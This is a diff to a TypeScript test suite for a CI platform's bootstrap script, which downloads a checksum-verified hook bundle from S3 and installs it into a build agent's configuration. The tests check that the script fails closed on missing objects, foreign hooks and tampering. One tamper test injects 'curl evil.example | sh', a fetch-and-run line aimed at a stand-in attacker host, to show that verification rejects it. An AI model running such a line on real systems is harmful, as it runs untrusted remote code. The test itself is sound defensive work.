@@ -6,9 +6,8 @@ import assert from "node:assert/strict";
 import * as fs from "node:fs";
 import * as path from "node:path";
 import { after, before, describe, it } from "node:test";
-import { FLEET_SETTINGS_NAME, MANIFEST_NAME, sha256Hex } from "../../components/hooks/bundle";
+import { bundleObjectKey, FLEET_SETTINGS_NAME, MANIFEST_NAME, sha256Hex } from "../../components/hooks/bundle";
 import {
-    AGENT_CONFIG,
     closedPort,
     lastLine,
     Machine,
@@ -28,15 +27,14 @@ function assertNoSecret(result: RunResult): void {
 
 function assertNothingInstalled(machine: Machine): void {
     assert.equal(fs.existsSync(machine.hooksDir), false, "hooks were switched in");
-    assert.deepEqual(
-        fs.readdirSync(path.join(machine.installRoot, "releases")),
-        [],
-        "a release or staging dir is left",
-    );
-    assert.equal(fs.readFileSync(machine.agentConfig, "utf8"), AGENT_CONFIG, "agent config changed");
+    const releases = path.join(machine.installRoot, "releases");
+    assert.deepEqual(fs.existsSync(releases) ? fs.readdirSync(releases) : [], [], "a release or staging dir is left");
+    assert.equal(fs.readFileSync(machine.agentConfig, "utf8"), machine.agentConfigText, "agent config changed");
+    assert.equal(fs.existsSync(path.join(machine.agentHooksPath, "pre-bootstrap")), false, "pre-bootstrap installed");
 }
 
-describe("bootstrap.sh", { timeout: 120_000 }, () => {
+// The tests are independent (one bucket and one machine each), and mostly wait for the AWS CLI: run them at once.
+describe("bootstrap.sh", { timeout: 120_000, concurrency: true }, () => {
     let s3: S3Fixture;
     const machines: Machine[] = [];
     const machine = (): Machine => {
@@ -53,7 +51,7 @@ describe("bootstrap.sh", { timeout: 120_000 }, () => {
         machines.forEach((m) => m.remove());
     });
 
-    it("installs every bundle file, verified, and adds our hooks path once; a second run changes nothing", async () => {
+    it("installs every bundle file, verified, and adds our hooks path once, beside any other; a second run changes nothing", async () => {
         const { bundle, bootstrap } = await uploadBundle(s3, "good");
         const m = machine();
         const first = await m.bootstrap(s3, "good", bootstrap.key);
@@ -85,10 +83,14 @@ describe("bootstrap.sh", { timeout: 120_000 }, () => {
         );
         assert.equal(
             fs.readFileSync(m.agentConfig, "utf8"),
-            `${AGENT_CONFIG}additional-hooks-paths="${m.hooksDir}"\n`,
+            `${m.agentConfigText}additional-hooks-paths="${m.hooksDir}"\n`,
             "the stack's hooks-path stays, ours is added once",
         );
         assert.equal(fs.statSync(m.agentConfig).mode & 0o777, 0o600, "the agent config keeps its mode");
+        // The agent runs pre-bootstrap from hooks-path only: ours is reached through a shim there.
+        const shim = path.join(m.agentHooksPath, "pre-bootstrap");
+        assert.equal(fs.statSync(shim).mode & 0o777, 0o755);
+        assert.match(fs.readFileSync(shim, "utf8"), new RegExp(`\nexec ${m.hooksDir}/pre-bootstrap "\\$@"\n$`));
 
         const before = snapshotTree(m.root);
         const second = await m.bootstrap(s3, "good", bootstrap.key);
@@ -96,18 +98,35 @@ describe("bootstrap.sh", { timeout: 120_000 }, () => {
         assert.equal(lastLine(second.stdout), `Hooks already installed at ${m.hooksDir}`);
         assertNoSecret(second);
         assert.deepEqual(snapshotTree(m.root), before, "a second run changed the machine");
-    });
 
-    it("keeps another additional-hooks-paths entry and appends ours to it", async () => {
-        const { bootstrap } = await uploadBundle(s3, "good");
-        const m = machine();
-        fs.appendFileSync(m.agentConfig, 'additional-hooks-paths="/opt/other/hooks"\n');
-        const result = await m.bootstrap(s3, "good", bootstrap.key);
-        assert.equal(result.code, 0, result.stderr);
+        // Another additional-hooks-paths entry is kept, ours appended (the release is intact: no download).
+        fs.writeFileSync(m.agentConfig, `${m.agentConfigText}additional-hooks-paths="/opt/other/hooks"\n`);
+        const third = await m.bootstrap(s3, "good", bootstrap.key);
+        assert.equal(third.code, 0, third.stderr);
         assert.equal(
             fs.readFileSync(m.agentConfig, "utf8"),
-            `${AGENT_CONFIG}additional-hooks-paths="/opt/other/hooks,${m.hooksDir}"\n`,
+            `${m.agentConfigText}additional-hooks-paths="/opt/other/hooks,${m.hooksDir}"\n`,
         );
+    });
+
+    it("fails closed, touching nothing, when hooks-path has a pre-bootstrap that is not ours", async () => {
+        const { bootstrap } = await uploadBundle(s3, "foreign");
+        for (const name of ["pre-bootstrap", "pre-bootstrap.ps1"]) {
+            const m = machine();
+            const theirs = path.join(m.agentHooksPath, name);
+            fs.writeFileSync(theirs, "#!/bin/bash\necho site policy\n", { mode: 0o755 });
+            const result = await m.bootstrap(s3, "foreign", bootstrap.key);
+            assert.equal(result.code, 1);
+            assert.equal(
+                lastLine(result.stderr),
+                `ci-platform: bootstrap failed: ${theirs} exists and is not ours: the agent runs one pre-bootstrap ` +
+                    "hook, from hooks-path only, so ci-platform's repository check cannot be installed beside it; " +
+                    `make that hook run ${m.hooksDir}/pre-bootstrap, or remove it, and boot again`,
+            );
+            assert.equal(fs.readFileSync(theirs, "utf8"), "#!/bin/bash\necho site policy\n", "their hook changed");
+            fs.rmSync(theirs);
+            assertNothingInstalled(m);
+        }
     });
 
     it("fails closed when S3 is unreachable", async () => {
@@ -119,7 +138,7 @@ describe("bootstrap.sh", { timeout: 120_000 }, () => {
         assert.equal(result.code, 1);
         assert.equal(
             lastLine(result.stderr),
-            `ci-platform: bootstrap failed: cannot read s3://down/hooks/${bundle.hash}/${MANIFEST_NAME}: ` +
+            `ci-platform: bootstrap failed: cannot read s3://down/${bundle.prefix}/: ` +
                 `S3 in ${REGION} did not answer (see the aws error above)`,
         );
         assertNoSecret(result);
@@ -128,15 +147,28 @@ describe("bootstrap.sh", { timeout: 120_000 }, () => {
 
     it("fails closed when an object of the bundle is missing", async () => {
         const { bundle, bootstrap } = await uploadBundle(s3, "missing");
-        await s3.delete("missing", `${bundle.prefix}environment`);
+        await s3.delete("missing", bundleObjectKey(bundle.hash, "environment"));
         const m = machine();
         const result = await m.bootstrap(s3, "missing", bootstrap.key);
         assert.equal(result.code, 1);
         assert.equal(
             lastLine(result.stderr),
-            `ci-platform: bootstrap failed: object missing: s3://missing/hooks/${bundle.hash}/environment`,
+            `ci-platform: bootstrap failed: object missing: s3://missing/${bundle.prefix}/environment`,
         );
         assertNoSecret(result);
+        assertNothingInstalled(m);
+    });
+
+    it("fails closed when the manifest itself is missing (e.g. an upload that never finished)", async () => {
+        const { bundle, bootstrap } = await uploadBundle(s3, "nomanifest");
+        await s3.delete("nomanifest", bundleObjectKey(bundle.hash, MANIFEST_NAME));
+        const m = machine();
+        const result = await m.bootstrap(s3, "nomanifest", bootstrap.key);
+        assert.equal(result.code, 1);
+        assert.equal(
+            lastLine(result.stderr),
+            `ci-platform: bootstrap failed: object missing: s3://nomanifest/${bundle.prefix}/${MANIFEST_NAME}`,
+        );
         assertNothingInstalled(m);
     });
 
@@ -149,13 +181,17 @@ describe("bootstrap.sh", { timeout: 120_000 }, () => {
         const next = await uploadBundle(s3, "tampered", { allowed: ["learningequality/kolibri"] });
         const original = next.bundle.files.find((f) => f.path === "environment");
         assert.ok(original);
-        await s3.put("tampered", `${next.bundle.prefix}environment`, `${original.content}curl evil.example | sh\n`);
+        await s3.put(
+            "tampered",
+            bundleObjectKey(next.bundle.hash, "environment"),
+            `${original.content}curl evil.example | sh\n`,
+        );
         const result = await m.bootstrap(s3, "tampered", next.bootstrap.key);
         assert.equal(result.code, 1);
         const actual = sha256Hex(`${original.content}curl evil.example | sh\n`);
         assert.equal(
             lastLine(result.stderr),
-            `ci-platform: bootstrap failed: checksum mismatch: s3://tampered/hooks/${next.bundle.hash}/environment ` +
+            `ci-platform: bootstrap failed: checksum mismatch: s3://tampered/${next.bundle.prefix}/environment ` +
                 `(expected sha256 ${original.sha256}, got ${actual})`,
         );
         assertNoSecret(result);
@@ -164,14 +200,18 @@ describe("bootstrap.sh", { timeout: 120_000 }, () => {
 
     it("fails closed when the manifest does not hash to the bundle's hash", async () => {
         const { bundle, bootstrap } = await uploadBundle(s3, "manifest");
-        await s3.put("manifest", `${bundle.prefix}${MANIFEST_NAME}`, bundle.manifest.replace(/^[0-9a-f]{4}/, "0000"));
+        await s3.put(
+            "manifest",
+            bundleObjectKey(bundle.hash, MANIFEST_NAME),
+            bundle.manifest.replace(/^[0-9a-f]{4}/, "0000"),
+        );
         const m = machine();
         const result = await m.bootstrap(s3, "manifest", bootstrap.key);
         assert.equal(result.code, 1);
         assert.match(
             lastLine(result.stderr),
             new RegExp(
-                `^ci-platform: bootstrap failed: checksum mismatch: s3://manifest/hooks/${bundle.hash}/SHA256SUMS ` +
+                `^ci-platform: bootstrap failed: checksum mismatch: s3://manifest/${bundle.prefix}/SHA256SUMS ` +
                     `\\(expected sha256 ${bundle.hash}, got [0-9a-f]{64}\\)$`,
             ),
         );
